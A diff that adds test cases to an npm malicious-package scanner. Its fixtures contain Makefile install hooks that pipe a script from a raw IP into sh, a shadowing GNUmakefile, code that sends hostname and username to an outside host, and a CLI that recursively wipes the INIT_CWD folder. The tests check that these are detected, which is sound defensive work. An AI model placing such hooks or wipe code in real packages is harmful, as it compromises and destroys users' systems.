@@ -514,3 +514,83 @@ describe('round 68: a Makefile an install script runs, require under another nam
     expect(r.risk_level).toBe('clean');
   });
 });
+
+describe('review of the sixteenth session', () => {
+  it('a Makefile that includes itself over and over, or expands a variable into itself, is read once', () => {
+    for (const makefile of [
+      `${'include Makefile\n'.repeat(150)}all:\n\tcurl -fsSL http://45.9.148.3/x.sh | sh\n`,
+      `A = ${'$(A)'.repeat(40)}\nall:\n\techo $(A)\n\tcurl -fsSL http://45.9.148.3/x.sh | sh\n`,
+    ]) {
+      const r = analyzeSource({ 'package.json': pkg({ scripts: { install: 'make' } }), Makefile: makefile });
+      expect(r.risk_level).toBe('critical');
+    }
+  });
+  it('the targets make is asked for: a maintainer’s release target is not run by `make build`', () => {
+    const makefile =
+      'build:\n\tcc -O2 -o build/tool src/tool.c\n\ntools:\n\tcurl -sSfL https://tools.example/install.sh | sh -s v1.2.0\n\nrelease:\n\tnpm publish\n';
+    const quiet = analyzeSource({
+      'package.json': pkg({ scripts: { install: 'make build' } }),
+      Makefile: makefile,
+    });
+    expect(threats(quiet).filter((f) => f.confidence >= 0.5)).toEqual([]);
+    const shadow = analyzeSource({
+      'package.json': pkg({ scripts: { install: 'make build' } }),
+      Makefile: makefile,
+      GNUmakefile: 'build:\n\tcurl -fsSL http://45.9.148.3/x.sh | sh\n',
+    });
+    expect(shadow.risk_level).toBe('critical');
+  });
+  it('quiet: a loader resolving its compiler by name and prepending a shim; a CLI printing how to install a local model server', () => {
+    const loader = analyzeSource({
+      'package.json': pkg({ type: 'module' }),
+      'register.js': "import { register } from 'node:module';\nregister('./hooks.js', import.meta.url);\n",
+      'hooks.js': [
+        "import { createRequire } from 'node:module';",
+        'const require = createRequire(import.meta.url);',
+        "const tsPath = require.resolve('typescript/lib/typescript.js');",
+        'const ts = require(tsPath);',
+        'const CJS = \'var __filename = new URL(import.meta.url).pathname; var __dirname = __filename.slice(0, __filename.lastIndexOf("/"));\\n\';',
+        'export async function load(url, context, next) {',
+        "  if (!url.endsWith('.ts')) return next(url, context);",
+        "  const out = ts.transpileModule(String((await next(url, { ...context, format: 'module' })).source), {}).outputText;",
+        "  return { format: 'module', source: CJS + out, shortCircuit: true };",
+        '}',
+      ].join('\n'),
+    });
+    expect(ruleOf(loader, 'js.module-hook-tamper')).toBeUndefined();
+    const cli = analyzeSource({
+      'package.json': pkg({ bin: { askdocs: 'cli.js' } }),
+      'cli.js':
+        "console.log('askdocs needs Ollama, which runs as the local model server. Install and start it:\\n\\n```sh\\ncurl -fsSL https://ollama.example/install.sh | sh\\n```\\n');",
+    });
+    expect(threats(cli).filter((f) => f.confidence >= 0.5)).toEqual([]);
+  });
+  it('quiet: a CI action writing the project’s npmrc for its registry with the job’s token', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'action.yml': 'name: setup-registry\nruns:\n  using: node20\n  main: index.js\n',
+      'index.js': [
+        "const fs = require('fs'); const path = require('path');",
+        "const rc = path.join(process.env.GITHUB_WORKSPACE, '.npmrc');",
+        "let cur = '@acme:registry=https://npm.pkg.example/\\n';",
+        'cur += `//npm.pkg.example/:_authToken=${process.env.GITHUB_TOKEN}\\n`;',
+        'fs.writeFileSync(rc, cur);',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.write-registry-config')?.confidence ?? 0).toBeLessThan(0.5);
+  });
+  it('host details sent to a subdomain named after the package stay a warning; INIT_CWD is not a package’s own folder', () => {
+    const sub = analyzeSource({
+      'package.json': JSON.stringify({ name: 'logfmt-pretty', version: '1.0.0', main: 'index.js' }),
+      'index.js':
+        "const os = require('os');\nmodule.exports = (line) => { fetch('https://logfmt-pretty.telemetry-edge.example/v1', { method: 'POST', body: JSON.stringify({ h: os.hostname(), u: os.userInfo().username, line }) }); return line; };",
+    });
+    expect(ruleOf(sub, 'js.exfil-fingerprint')?.confidence).toBeGreaterThanOrEqual(0.6);
+    const wipe = analyzeSource({
+      'package.json': JSON.stringify({ name: 'create-init-tidy', version: '1.0.0', bin: { tidy: 'cli.js' } }),
+      'cli.js':
+        "const fs = require('fs'); const path = require('path');\nconst dir = path.resolve(process.cwd(), process.env.INIT_CWD);\nfor (const e of fs.readdirSync(dir)) fs.rmSync(path.join(dir, e), { recursive: true, force: true });",
+    });
+    expect(ruleOf(wipe, 'js.destructive-user-data')?.confidence).toBeGreaterThanOrEqual(0.8);
+  });
+});
